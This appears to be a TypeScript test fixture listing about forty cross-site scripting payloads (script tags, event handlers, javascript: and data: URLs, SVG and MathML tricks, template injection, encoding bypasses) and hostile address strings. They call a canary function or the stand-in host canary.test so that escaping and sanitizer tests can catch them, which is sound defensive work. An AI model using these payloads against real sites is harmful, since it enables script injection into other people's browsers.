/**
 * What somebody writes who wants a script of theirs to run in another person's browser: each calls `__xss`, or asks the
 * canary's host for something, when it is taken for anything but text. Short enough for every field of one line.
 */
export const hostileTexts: readonly string[] = [
  '<script>__xss(1)</script>',
  '</script><script>__xss(2)</script>',
  '</title></textarea></style><script>__xss(3)</script>',
  '<img src=x onerror=__xss(4)>',
  '"><img src=x onerror=__xss(5)>',
  "'><img src=x onerror='__xss(6)'>",
  '" onfocus=__xss(7) autofocus tabindex=1 x="',
  "' onpointerenter=__xss(8) onmouseover=__xss(8) x='",
  '<svg onload=__xss(9)>',
  '<svg><script href=//canary.test/10.js /></svg>',
  '<svg><animate onbegin=__xss(11) attributeName=x dur=1s>',
  '<details open ontoggle=__xss(12)>',
  '<iframe srcdoc="<script>parent.__xss(13)</script>">',
  '<iframe src=javascript:parent.__xss(14)></iframe>',
  'javascript:__xss(15)',
  'java\tscript:__xss(16)',
  '[x](javascript:__xss(17))',
  '[x](JaVaScRiPt&colon;__xss(18))',
  '![x](x"onerror="__xss(19))',
  '<javascript:__xss(20)>',
  '[x]: data:text/html,<script>parent.__xss(21)</script>',
  '[x](data:text/html;base64,PHNjcmlwdD5fX3hzcygyMik8L3NjcmlwdD4=)',
  '<meta http-equiv=refresh content="0;url=//canary.test/23">',
  '<base href=//canary.test/24/>',
  '<link rel=stylesheet href=//canary.test/25.css>',
  '<style>*{background:url(//canary.test/26)}</style>',
  'x;background:url(//canary.test/27)',
  '<math><mtext><table><mglyph><style><img src=x onerror=__xss(28)>',
  '<noscript><p title="</noscript><img src=x onerror=__xss(29)>">',
  '{{constructor.constructor("__xss(30)")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: as it would be typed.
  '${__xss(31)}`-__xss(31)-`',
  '<form action=javascript:__xss(32)><button autofocus>x</button></form>',
  '<object data=//canary.test/33></object><embed src=//canary.test/33>',
  '\\u003cscript\\u003e__xss(34)\\u003c/script\\u003e',
  '&lt;script&gt;__xss(35)&lt;/script&gt;',
  ']]><script xmlns="http://www.w3.org/1999/xhtml">__xss(36)</script>',
  '<a xlink:href="javascript:__xss(37)" href="vbscript:x">x</a>',
  '＜script＞__xss(38)＜/script＞',
  '<!--><img src=x onerror=__xss(39)>-->',
  '%3Cscript%3E__xss(40)%3C/script%3E',
];

/** The same for what becomes an address: hostile from its first letter on. */
export const hostileAddresses: readonly string[] = [
  'javascript:__xss(51)',
  ' JaVaScRiPt:__xss(52)',
  'data:text/html,<script>parent.__xss(53)</script>',
  'vbscript:__xss(54)',
  '//canary.test/55',
  'https://canary.test/56',
  '" onfocus=__xss(57) autofocus x="',
  "' onfocus=__xss(58) autofocus x='",
];
